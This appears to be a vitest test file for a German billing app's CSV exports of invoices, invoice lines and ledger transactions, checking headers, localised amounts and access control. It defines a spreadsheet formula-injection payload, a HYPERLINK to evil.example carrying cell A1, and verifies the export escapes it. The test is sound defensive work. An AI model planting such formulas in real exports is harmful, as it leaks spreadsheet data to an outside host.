import { invoices } from "@packhaus/contract/invoicing/invoices/endpoints"
import { balances } from "@packhaus/contract/ledger/endpoints"
import { parse } from "csv-parse/sync"
import { expect, it } from "vitest"
import { billingFixtures } from "../../../testing/billing.ts"
import { moneyFixtures } from "../../../testing/money.ts"
import { createTestApp } from "../../../testing/test-app.ts"

const app = await createTestApp()
const { call, rows } = app
const { createCustomer, createInvoice } = billingFixtures(app)
const { issueInvoice, book } = moneyFixtures(app)

const EVIL = '=HYPERLINK("https://evil.example?"&A1)'
const read = (text: string, delimiter = ";"): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: false })
const columnOf = (table: string[][], heading: string) => {
  const index = table[0]?.indexOf(heading) ?? -1
  return table.slice(1).map((row) => row[index])
}

it("200: the matching invoices, in both languages, without formulas", async () => {
  const [owner, stranger] = [await createCustomer(), await createCustomer()]
  const { organisation_id } = owner
  await rows.update("organisations", organisation_id, { name: EVIL })
  await issueInvoice(stranger.organisation_id, 99)
  const ids = [await issueInvoice(organisation_id, 1_050), await issueInvoice(organisation_id, 5)]
  const reply = await call(owner, invoices.export, {})
  expect([reply.status, reply.headers]).toMatchObject([
    200,
    {
      "content-type": "text/csv; charset=utf-8",
      "content-disposition": expect.stringContaining('attachment; filename="Rechnungen.csv"'),
      "cache-control": "private, no-store",
    },
  ])
  const table = read(reply.body)
  expect(columnOf(table, "ID")).toEqual(ids.toReversed())
  expect(columnOf(table, "Brutto")).toEqual(["0,05", "10,5"])
  expect(columnOf(table, "Organisation")).toEqual([`'${EVIL}`, `'${EVIL}`])
  expect(columnOf(table, "Status")).toEqual(["Offen", "Offen"])

  const query = { language: "en" as const, status: "paid" as const }
  expect(read((await call(owner, invoices.export, { query })).body, ",")).toHaveLength(1)
  const english = read(
    (await call(owner, invoices.export, { query: { language: "en" } })).body,
    ",",
  )
  expect(columnOf(english, "Gross")).toEqual(["0.05", "10.5"])
})

it("200 exports all lines of an invoice, which add up to it; 404 for another organisation's", async () => {
  const owner = await createCustomer()
  const { id, number, net } = await createInvoice(owner, { pieces: 4, packagings: 2 })
  const { headers, body } = await call(owner, invoices.exportLines, { params: { id } })
  expect(headers["content-disposition"]).toContain(`${number}_Positionen.csv`)
  const table = read(body)
  expect(columnOf(table, "Leistung")).toEqual([
    "Packen, erstes Stück",
    "Packen, jedes weitere Stück",
    "Versand",
    "Standardverpackung",
  ])
  const amounts = columnOf(table, "Netto").map((cell) => Number(cell?.replace(",", ".")))
  expect(Math.round(amounts.reduce((sum, one) => sum + one, 0) * 100)).toBe(net)
  expect(columnOf(table, "USt.-Satz (%)")).toEqual(["19", "19", "19", "19"])
  const stranger = await createCustomer()
  const refused = await call(stranger, invoices.exportLines, { params: { id } })
  expect([refused.status, refused.body.code]).toEqual([404, "row.not_found"])
})

it("200: the matching transactions, newest first, with people's input as text", async () => {
  const owner = await createCustomer()
  const { organisation_id } = owner
  for (let turn = 0; turn < 3; turn++)
    await book({
      organisation_id,
      type: "deposit" as const,
      entries: [
        { account: "bank" as const, debit: 100 + turn },
        { account: "balance" as const, credit: 100 + turn },
      ],
    })
  const staff = await app.createActor("administrator")
  const params = { id: organisation_id }
  const body = { amount: 12_345, description: EVIL } as never
  await call(staff, balances.deposit, { params, body }, { "idempotency-key": "table with deposit" })
  const query = { organisation_id, type: "deposit" as const }
  for (const actor of [owner, staff]) {
    const table = read((await call(actor, balances.exportTransactions, { query })).body)
    expect(columnOf(table, "Betrag")).toEqual(["123,45", "1,02", "1,01", "1"])
    expect(columnOf(table, "Guthaben danach")[0]).toBe("126,48")
    expect(columnOf(table, "Beschreibung")[0]).toBe(`'${EVIL}`)
  }
  const stranger = await createCustomer()
  expect(read((await call(stranger, balances.exportTransactions, { query })).body)).toHaveLength(1)
})
